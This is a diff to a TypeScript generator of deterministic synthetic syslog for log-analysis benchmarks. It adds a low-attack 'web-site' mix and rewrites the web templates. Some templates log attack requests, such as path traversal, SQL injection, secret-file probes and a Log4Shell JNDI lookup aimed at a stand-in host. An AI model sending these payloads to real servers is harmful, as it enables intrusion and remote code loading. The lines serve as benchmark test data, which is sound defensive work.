@@ -1,19 +1,19 @@
 // Deterministic synthetic syslog for the benchmarks: sshd (auth), Postfix + Dovecot (mail) and
-// web server (web) mixes with noise, about a third attack lines, the same bytes for the same
+// web server (web) mixes with noise, about a third attack lines (web-site: a public site's log, about 3 %), the same bytes for the same
 // arguments on every machine. Run as a program: `node dist/bench/genlog.js LINES [--kind K]`.
 import { closeSync, mkdtempSync, openSync, writeSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 
-export type Kind = 'auth' | 'mail' | 'web';
+export type Kind = 'auth' | 'mail' | 'web' | 'web-site';
 export interface GenOptions { kind?: Kind; ips?: number; seed?: number }
 
 const USERS = ['root', 'admin', 'test', 'oracle', 'ubuntu', 'git', 'postgres', 'user', 'pi', 'guest'];
 const HOST = 'vmd28527';
 
 /** Weighted line templates: {pid} {ip} {port} {user} {path} are filled per line. */
-const MIXES: Record<Kind, [number, string][]> = {
+const MIXES: Record<Exclude<Kind, 'web-site'>, [number, string][]> = {
   auth: [
     [8, 'sshd[{pid}]: Failed password for root from {ip} port {port} ssh2'],
     [6, 'sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2'],
@@ -44,16 +44,34 @@ const MIXES: Record<Kind, [number, string][]> = {
     [8, 'postfix/cleanup[{pid}]: 4F1A22C3B: message-id=<abc@example.org>'],
   ],
   web: [
-    [30, 'httpd: {ip} - - [01/Nov/2026:10:00:00 +0000] "GET /{path} HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64)" [Instance: www.example.org:443]@static'],
-    [10, 'httpd: {ip} - - [01/Nov/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 196 "-" "python-requests/2.31" [Instance: www.example.org:443]@static'],
-    [8, 'httpd: {ip} - - [01/Nov/2026:10:00:00 +0000] "POST /wp-login.php HTTP/1.1" 200 4210 "-" "Mozilla/5.0" [Instance: blog.example.org:443]@wordpress'],
-    [6, 'httpd: {ip} - - [01/Nov/2026:10:00:00 +0000] "GET /phpmyadmin/index.php HTTP/1.1" 404 196 "-" "Mozilla/5.0 zgrab/0.x" [Instance: www.example.org:443]@static'],
-    [4, 'httpd: {ip} - - [01/Nov/2026:10:00:00 +0000] "GET /cgi-bin/../../../../etc/passwd HTTP/1.1" 400 226 "-" "-" [Instance: www.example.org:80]@static'],
-    [4, 'nginx: {ip} - - [01/Nov/2026:10:00:00 +0000] "GET /?id=1%27%20OR%201=1-- HTTP/1.1" 403 153 "-" "sqlmap/1.7" [Instance: shop.example.org:443]@generic'],
-    [20, 'nginx: {ip} - - [01/Nov/2026:10:00:00 +0000] "GET /{path} HTTP/2.0" 200 9120 "https://shop.example.org/" "Mozilla/5.0 (Windows NT 10.0)" [Instance: shop.example.org:443]@generic'],
-    [8, 'httpd: [client {ip}:{port}] AH01617: user {user}: authentication failure for "/admin": Password Mismatch'],
+    [30, 'nginx: {ip} - - "GET /{path} HTTP/2.0" 200 9120 "https://www.example.org/" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: www.example.org:443]@generic'],
+    [12, 'httpd: {ip} - - "GET /{path} HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: blog.example.org:443]@wordpress'],
+    [8, 'nginx: {ip} - - "GET /{path} HTTP/1.1" 304 0 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: static.example.org:80]@static'],
+    [6, 'httpd: {ip} - - "GET /wp-content/themes/twenty/style.css HTTP/1.1" 200 2210 "https://blog.example.org/" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: blog.example.org:443]@wordpress'],
+    [4, 'nginx: {ip} - - "GET /favicon.ico HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: static.example.org:80]@static'],
+    [2, 'nginx: {ip} - - "GET /private/ HTTP/1.1" 401 179 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: cloud.example.org:443]@nextcloud'],
+    [4, 'httpd: {ip} - - "POST /wp-login.php HTTP/1.1" 200 4210 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: blog.example.org:443]@wordpress'],
+    [2, 'httpd: {ip} - - "POST /xmlrpc.php HTTP/1.1" 200 370 "-" "Mozilla/5.0" "-" [Instance: blog.example.org:443]@wordpress'],
+    [5, 'nginx: {ip} - - "GET /.env HTTP/1.1" 404 153 "-" "python-requests/2.31.0" "-" [Instance: www.example.org:443]@generic'],
+    [2, 'nginx: {ip} - - "GET /.git/config HTTP/1.1" 404 153 "-" "Go-http-client/1.1" "-" [Instance: www.example.org:443]@generic'],
+    [3, 'httpd: {ip} - - "GET /phpmyadmin/index.php HTTP/1.1" 404 196 "-" "Mozilla/5.0 zgrab/0.x" "-" [Instance: static.example.org:80]@static'],
+    [3, 'nginx: {ip} - - "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: static.example.org:80]@static'],
+    [2, 'httpd: {ip} - - "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 226 "-" "-" "-" [Instance: www.example.org:443]@generic'],
+    [2, 'nginx: {ip} - - "GET /item.php?id=1%27%20OR%201=1-- HTTP/1.1" 403 153 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)" "-" [Instance: www.example.org:443]@generic'],
+    [1, 'nginx: {ip} - - "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://198.51.100.9:1389/a}" "-" [Instance: www.example.org:443]@generic'],
+    [1, 'httpd: {ip} - - "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)" "-" [Instance: static.example.org:80]@static'],
+    [1, 'nginx: {ip} - - "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03" 400 157 "-" "-" "-" [Instance: www.example.org:443]@generic'],
+    [2, 'httpd: {ip} - {user} "GET /admin/ HTTP/1.1" 401 381 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: www.example.org:443]@generic'],
+    [2, 'nginx: 2026/11/01 10:00:00 [error] {pid}#{pid}: *{port} open() "/var/www/html/{path}" failed (2: No such file or directory), client: {ip}, server: www.example.org, request: "GET /{path} HTTP/1.1", host: "www.example.org"'],
+    [1, 'nginx: 2026/11/01 10:00:00 [error] {pid}#{pid}: *{port} limiting requests, excess: 10.520 by zone "one", client: {ip}, server: cloud.example.org, request: "GET / HTTP/1.1", host: "cloud.example.org"'],
+    [1, 'httpd: [authz_core:error] [pid {pid}] [client {ip}:{port}] AH01630: client denied by server configuration: /var/www/admin [Instance: www.example.org:443]@generic'],
+    [1, 'httpd: [auth_basic:error] [pid {pid}] [client {ip}:{port}] AH01617: user {user}: authentication failure for "/admin/": Password Mismatch [Instance: www.example.org:443]@generic'],
   ],
 };
+/** The web mix as a public site's log reads: its traffic (the first six templates) fifteen times as often, about 3 % attack lines. */
+function webSite(): [number, string][] {
+  return MIXES.web.map(([w, f], i) => [i < 6 ? w * 15 : w, f]);
+}
 const PATHS = ['index.html', 'css/site.css', 'img/logo.png', 'about/', 'blog/2026/11/hello', 'favicon.ico'];
 
 /** mulberry32: a small seeded generator, the same sequence everywhere. */
@@ -75,7 +93,7 @@ export function* generateLines(lines: number, o: GenOptions = {}): Generator<str
   const pick = <T>(a: readonly T[]): T => a[Math.floor(rnd() * a.length)];
   const nIps = o.ips ?? 20_000;
   const ips = Array.from({ length: nIps }, () => `${int(1, 223)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`);
-  const mix = MIXES[o.kind ?? 'auth'];
+  const mix = o.kind === 'web-site' ? webSite() : MIXES[o.kind ?? 'auth'];
   const total = mix.reduce((s, [w]) => s + w, 0);
   for (let i = 0; i < lines; i++) {
     const s = Math.floor(i / 50);
@@ -111,8 +129,8 @@ export function writeLines(lines: number, o: GenOptions = {}): string {
 if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
   const [n, ...rest] = process.argv.slice(2);
   const opt = (k: string) => { const i = rest.indexOf(`--${k}`); return i >= 0 ? rest[i + 1] : undefined; };
-  if (!/^\d+$/.test(n ?? '') || !['auth', 'mail', 'web', undefined].includes(opt('kind'))) {
-    process.stderr.write('usage: node dist/bench/genlog.js LINES [--kind auth|mail|web] [--ips N] [--seed S]\n');
+  if (!/^\d+$/.test(n ?? '') || !['auth', 'mail', 'web', 'web-site', undefined].includes(opt('kind'))) {
+    process.stderr.write('usage: node dist/bench/genlog.js LINES [--kind auth|mail|web|web-site] [--ips N] [--seed S]\n');
     process.exitCode = 64;
   } else {
     for (const l of generateLines(Number(n), { kind: opt('kind') as Kind | undefined, ips: Number(opt('ips') ?? 20_000), seed: Number(opt('seed') ?? 51) })) process.stdout.write(l);
